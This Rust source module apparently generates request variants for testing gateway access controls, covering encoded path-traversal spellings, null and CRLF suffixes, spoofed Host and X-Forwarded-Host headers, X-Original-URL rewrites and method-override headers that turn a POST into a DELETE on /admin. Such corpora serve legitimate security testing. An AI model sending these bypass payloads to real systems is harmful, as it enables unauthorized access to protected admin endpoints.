//! Spellings that once led around some gateway, to some server.

use super::super::request::Request;

pub fn paths(name: &str) -> Vec<Vec<u8>> {
    let (head, tail) = name.split_at(2);
    let escaped: String = name.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let texts = [
        format!("/{name}"),
        format!("/{name}/x"),
        format!("/{name}/"),
        // Line ends.
        format!("/{name}%0a"),
        format!("/{name}%0d%0a"),
        format!("/x%0a/{name}"),
        format!("/{name}%0ax"),
        format!("/{name}%20"),
        // Encoded dots behind an encoded slash.
        format!("/x%2fy/%2e%2e/{name}"),
        format!("/public/x%2fy/%2e%2e/%2e%2e/{name}"),
        format!("/public/x%5cy/%2e%2e/%2e%2e/{name}"),
        format!("/public/%2e%2e/{name}"),
        format!("/public/..%2f{name}"),
        format!("/public/..;x%2fy/{name}"),
        format!("/public/..;/{name}"),
        format!("/public/..%5c{name}"),
        format!("/public/%252e%252e/{name}"),
        // A host within the target.
        format!("//x/{name}"),
        format!("/\\x/{name}"),
        format!("///x/{name}"),
        format!("//public/{name}"),
        format!("/%2fx/{name}"),
        format!("http://x/{name}"),
        // Letters in other forms.
        format!("/%u00{:02x}{}", name.as_bytes()[0], &name[1..]),
        format!("/public/%u002e%u002e/{name}"),
        format!("/{head}%ff{tail}"),
        format!("/{}", name.replace('i', "%c4%b0")),
        format!("/{escaped}"),
        format!("/{}", escaped.replace('%', "%25")),
        format!("/{}", name.to_uppercase()),
        // Ends of the path.
        format!("/{name};/x"),
        format!("/{name};x"),
        format!("/{name}%3bx"),
        format!("/{name}%00"),
        format!("/{name}%3f"),
        format!("/{name}%23"),
        format!("/{name}#x"),
        format!("/{name}."),
        format!("/x/../{name}/x/.."),
    ];
    texts.into_iter().map(String::into_bytes).collect()
}

pub fn hosts() -> Vec<Request> {
    let hosts = [
        "admin.test:x",
        "admin.test:123456",
        "admin.test:80x",
        "admin.test.:x",
        "admin.test..",
        "admin.test,x",
        "x,admin.test",
        "[admin.test]",
        "ADMIN.test",
    ];
    let mut all: Vec<_> = hosts.into_iter().map(|host| Request::get("/x").host(host)).collect();
    all.push(Request::get("/x").header("X-Forwarded-Host", "admin.test"));
    all.push(Request::get("/x").header("Forwarded", "host=admin.test"));
    all.push(Request::get("//admin.test/x"));
    all
}

pub fn prefixes() -> Vec<Request> {
    let moved =
        ["SCRIPT_NAME", "Daphne-Root-Path", "X-Script-Name"].map(|name| Request::get("/public/admin").header(name, "/public"));
    let named = ["X-Original-URL", "X-Rewrite-URL"].map(|name| Request::get("/public/x").header(name, "/admin"));
    moved.into_iter().chain(named).collect()
}

pub fn overrides() -> Vec<Request> {
    ["X-HTTP-Method-Override", "X_HTTP_METHOD_OVERRIDE", "X-HTTP-Method", "X-Method-Override"]
        .map(|name| Request { method: "POST", ..Request::get("/admin").header(name, "DELETE") })
        .to_vec()
}
